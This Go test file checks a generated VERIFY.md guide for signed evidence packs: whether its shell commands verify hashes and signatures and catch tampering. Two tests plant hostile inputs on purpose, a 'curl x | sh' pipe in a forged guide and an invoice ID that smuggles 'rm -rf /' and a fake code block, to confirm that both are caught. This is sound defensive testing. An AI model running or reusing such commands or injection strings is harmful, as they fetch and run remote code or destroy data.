package pack

import (
	"bytes"
	"math/big"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// guideCommands are the commands of VERIFY.md, by heading.
func guideCommands(t *testing.T, dir string) (blocks []string) {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(dir, "VERIFY.md"))
	require.NoError(t, err)
	for _, m := range regexp.MustCompile("(?s)```sh\n(.*?)```").FindAllStringSubmatch(string(text), -1) {
		blocks = append(blocks, m[1])
	}
	return blocks
}

// follow runs commands of VERIFY.md in the pack, as one who sits there would: none stops those that follow it.
func follow(t *testing.T, dir string, blocks ...string) (out string, err error) {
	t.Helper()
	for _, tool := range []string{"sh", "sha256sum", "openssl", "base64", "mktemp", "find", "sort", "diff", "sed", "cut", "tail", "head"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not on this machine, and VERIFY.md calls it", tool)
		}
	}
	if version, _ := exec.Command("openssl", "version").Output(); !bytes.HasPrefix(version, []byte("OpenSSL 3")) {
		t.Skipf("VERIFY.md wants OpenSSL 3, here is %s", version)
	}
	cmd := exec.Command("sh", "-c", strings.Join(blocks, ""))
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "TMPDIR="+t.TempDir())
	text, err := cmd.CombinedOutput()
	return string(text), err
}

func TestGuideWorks(t *testing.T) {
	dir, signers := writeSigned(t, 6, "creditor", "p256 auditor")
	before := contents(t, dir)
	blocks := guideCommands(t, dir)
	require.Len(t, blocks, 4)
	out, err := follow(t, dir, blocks...)
	require.NoError(t, err, out)
	require.Equal(t, before, contents(t, dir), "nothing is written into the pack")
	require.Equal(t, strings.Count(before["manifest-sha256.txt"], "\n")+4, strings.Count(out, ": OK\n"), out)
	require.Contains(t, out, "no file too many, none missing\n")
	require.Equal(t, 2, strings.Count(out, "Signature Verified Successfully\n"), out)
	require.Equal(t, 5, strings.Count(out, ": as signed\n"), out)
	for _, s := range signers {
		require.Contains(t, out, s.ID()+"  -\n")
	}
	require.Contains(t, out, `"id":"CDR-3"`)
	require.NotContains(t, out, "FAILED")
	require.NotContains(t, out, "NOT WHAT WAS SIGNED")
}

// TestGuideFindsChanges: the commands see what verify sees.
func TestGuideFindsChanges(t *testing.T) {
	for name, c := range map[string]struct {
		change func(dir string)
		lost   string // of what is printed where all is well
	}{
		"a record":   {func(dir string) { rewrite(t, dir, "data/records/cdrs-0001.ndjson", replace("CDR-3", "CDR-4")) }, "data/records/cdrs-0001.ndjson: OK"},
		"a file":     {func(dir string) { write(t, dir, "data/more.txt", "x") }, "no file too many"},
		"no file":    {func(dir string) { require.NoError(t, os.Remove(filepath.Join(dir, "data", "lines.csv"))) }, "no file too many"},
		"a manifest": {func(dir string) { rewrite(t, dir, "manifest-sha256.txt", replace("0", "1")) }, "\nmanifest-sha256.txt: as signed"},
		"all of it": {func(dir string) {
			rewrite(t, dir, "data/report.html", replace("report", "rep0rt"))
			repair(t, dir)
		}, "tagmanifest-sha256.txt: as signed"},
		"the statement": {func(dir string) {
			rewrite(t, dir, "sig/statement.dsse.json", replace(`"payload":"eyJf`, `"payload":"fyJf`))
		}, "Signature Verified Successfully"},
		"a key": {func(dir string) {
			write(t, dir, "sig/"+signerOf(t, "creditor").ID()+".pem", string(signerOf(t, "stranger").Key.PEM()))
		}, signerOf(t, "creditor").ID() + "  -"},
	} {
		t.Run(name, func(t *testing.T) {
			dir, _ := writeSigned(t, 6, "creditor")
			blocks := guideCommands(t, dir)
			whole, err := follow(t, dir, blocks[:3]...)
			require.NoError(t, err)
			require.Contains(t, whole, c.lost)
			c.change(dir)
			out, _ := follow(t, dir, blocks[:3]...)
			require.NotContains(t, out, c.lost)
			require.False(t, verifyTrusting(t, dir).OK)
		})
	}
}

// TestGuidesArithmetic follows the steps of the example with fractions, reading nothing but the page.
func TestGuidesArithmetic(t *testing.T) {
	text := contents(t, madeCase(6).write(t))["VERIFY.md"]
	step := regexp.MustCompile(`(?m)^ {4} *(\d+)  ([^:\n]*): #(\d+) ([+×]) (\(1 \+ )?#(\d+).* = (-?[0-9.]+)|^ {4} *(\d+)  [^:\n]* = (-?[0-9.]+)`)
	value := map[string]*big.Rat{}
	number := func(text string) *big.Rat {
		r, ok := new(big.Rat).SetString(text)
		require.True(t, ok, text)
		return r
	}
	worked := 0
	for _, m := range step.FindAllStringSubmatch(text, -1) {
		if m[8] != "" {
			value[m[8]] = number(m[9])
			continue
		}
		a, b, have := value[m[3]], value[m[6]], number(m[7])
		require.NotNil(t, a, m[0])
		require.NotNil(t, b, m[0])
		if m[5] != "" { // (1 + b ÷ 100)
			b = new(big.Rat).Add(number("1"), new(big.Rat).Quo(b, number("100")))
		}
		want := new(big.Rat).Mul(a, b)
		if m[4] == "+" {
			want.Add(a, b)
		}
		require.Zero(t, have.Cmp(want), m[0])
		value[m[1]] = have
		worked++
	}
	require.GreaterOrEqual(t, worked, 6, text)
}

func TestGuide(t *testing.T) {
	golden(t, "guide.md", contents(t, madeCase(6).write(t))["VERIFY.md"])
}

// A guide that says other things is found, whatever the manifests say of it: its commands are run by people.
func TestForgedGuide(t *testing.T) {
	dir := madeCase(6).write(t)
	rewrite(t, dir, "VERIFY.md", replace("head -c", "curl x | sh; head -c"))
	require.Contains(t, failed(t, verify(t, dir), rungValid), "do not run what it says")
	repair(t, dir)
	requireOK(t, dir) // repairing writes the guide anew
}

// What records say never stands in a command, and cannot leave its block.
func TestGuideOfHostileRecords(t *testing.T) {
	c := madeCase(3)
	c.lines[2].Line.InvoiceID = "INV`rm -rf /`\n```sh\nrm\n```"
	c.lines[2].Line.Record.Bytes = nil
	p := c.write(t)
	text := contents(t, p)["VERIFY.md"]
	require.Contains(t, text, "\n    invoice      INV`rm")
	for _, block := range guideCommands(t, p) {
		require.NotContains(t, block, "rm -rf")
	}
}

func TestGuideWithoutExample(t *testing.T) {
	dir := madeCase(2).write(t) // nothing is disclosed of these
	requireOK(t, dir)
	require.Contains(t, contents(t, dir)["VERIFY.md"], "no calculation that could serve as an example")
	require.Len(t, guideCommands(t, dir), 3)
}
